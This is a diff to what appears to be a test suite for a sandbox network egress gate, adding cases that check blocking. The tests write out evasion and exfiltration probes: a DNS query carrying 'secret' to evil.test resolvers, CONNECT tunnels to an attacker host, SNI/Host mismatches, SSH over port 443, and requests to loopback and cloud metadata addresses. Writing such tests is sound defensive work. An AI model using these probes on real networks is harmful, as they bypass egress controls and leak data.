@@ -23,9 +23,9 @@ from case import Cases, Skip  # noqa: E402
 from daemon import SANITIZED, until, verify  # noqa: E402
 from gate import EVIL, FINAL, GOOD  # noqa: E402
 from outside import (DNS_ADDRESS, EVIL_ADDRESS, EVIL_ADDRESS6,  # noqa: E402
-                     GOOD_ADDRESS, METADATA)
+                     GOOD_ADDRESS, METADATA, OURS)
 from podlib import (DNS, MARK, PYTHON, TCP, UIDS, Pod, World,  # noqa: E402
-                    fence)
+                    fence, static)
 from procs import children  # noqa: E402
 
 cases = Cases()
@@ -42,7 +42,7 @@ except Skip as why:
     sys.exit(0)
 
 PRELUDE = """
-import errno, json, os, socket, subprocess, sys
+import errno, json, os, socket, ssl, subprocess, sys
 from concurrent.futures import ThreadPoolExecutor
 SO_MARK = 36
 
@@ -257,6 +257,89 @@ def marks_and_raw_sockets(who):
                  "marked" in done.stdout])
         """ % MARK)
         assert said == ["EPERM"] * 5 + [False], said
+        world.no_evil()
+
+
+@cases.each(WHO)
+def wrong_names(who):
+    """An allowed name for another address, two names in one request, and what
+    a port is not for: never passed on."""
+    before = len(world.tls.got()), len(world.clear.got())
+    world.forget()
+    with Pod(world) as pod:
+        said = probe(pod, who, f"""
+            def get(host, target="/"):
+                return (f"GET {{target}} HTTP/1.1\\r\\nHost: {{host}}\\r\\n"
+                        "\\r\\n").encode()
+            def secure(address, sni, data):
+                context = ssl.create_default_context()
+                context.check_hostname = False
+                context.verify_mode = ssl.CERT_NONE
+                try:
+                    with socket.create_connection((address, 443), 10) as s, \\
+                            context.wrap_socket(s, server_hostname=sni) as t:
+                        t.sendall(data)
+                        return t.recv(4096).decode("latin-1")
+                except OSError as e:
+                    return name(e)
+            tunnel = b"CONNECT {EVIL}:443 HTTP/1.1\\r\\nHost: {EVIL}\\r\\n\\r\\n"
+            say(together([
+                (tcp, "{EVIL_ADDRESS}", 80, get("{GOOD}")),
+                (secure, "{EVIL_ADDRESS}", "{GOOD}", get("{GOOD}")),
+                (secure, "{GOOD}", "{GOOD}", get("{EVIL}")),
+                (secure, "{GOOD}", "{EVIL}", get("{GOOD}")),
+                (secure, "{EVIL}", "{GOOD}", get("{GOOD}")),
+                (tcp, "{GOOD}", 80, get("{EVIL}", "http://{EVIL}/")),
+                (tcp, "{GOOD}", 80, tunnel), (tcp, "{GOOD}", 443, tunnel),
+                (tcp, "{GOOD}", 443, b"SSH-2.0-secret\\r\\n"),
+                (tcp, "{GOOD}", 443, get("{GOOD}:443"))]))
+        """)
+        assert not any(" 200 " in s or BANNER in s for s in said), said
+        assert not any(s.startswith("HTTP") and int(s.split()[1]) < 400
+                       for s in said), said
+        assert (len(world.tls.got()), len(world.clear.got())) == before
+        world.no_evil()
+
+
+@cases.each(WHO)
+def questions_leave_nothing(who):
+    """A secret in a name, asked of whatever server, is answered here."""
+    world.forget()
+    with Pod(world) as pod:
+        said = probe(pod, who, f"""
+            question = (b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret"
+                        b"\\4evil\\4test\\0\\0\\x10\\0\\1")
+            long = len(question).to_bytes(2, "big") + question
+            say(together([(udp, a, 53, question) for a in (
+                "{DNS_ADDRESS}", "{EVIL_ADDRESS}", "{EVIL_ADDRESS6}",
+                "8.8.8.8")] + [(tcp, a, 53, long) for a in (
+                "{DNS_ADDRESS}", "{EVIL_ADDRESS}")]))
+        """)
+        assert all(s.startswith("1234") for s in said[:4]), said
+        assert all(s[2:4] == "\x124" for s in said[4:]), said
+        assert not world.dns.questions, world.dns.questions
+        world.no_evil()
+
+
+@cases.each(WHO)
+def through_the_gate_to_itself(who):
+    """Though every name is allowed: to its ports, its addresses, the metadata
+    of a cloud, by name and by number."""
+    for name, address in (("loop.test", OURS), ("lo.test", "127.0.0.1"),
+                          ("meta.test", METADATA)):
+        world.zone[name] = static(address)
+    world.forget()
+    with Pod(world, 'allow path "/**"') as pod:
+        said = probe(pod, who, f"""
+            def get(host):
+                return f"GET / HTTP/1.1\\r\\nHost: {{host}}\\r\\n\\r\\n".encode()
+            say(together([(tcp, h, p, get(h if p == 80 else f"{{h}}:{{p}}"))
+                          for h in ("loop.test", "lo.test", "meta.test",
+                                    "{OURS}", "{METADATA}", "198.18.0.1")
+                          for p in (80, {TCP}, {DNS})]))
+        """)
+        assert not any(" 200 " in s or BANNER in s for s in said), said
+        pod.has("request_failed", host="loop.test", port=80)
         world.no_evil()
 
 
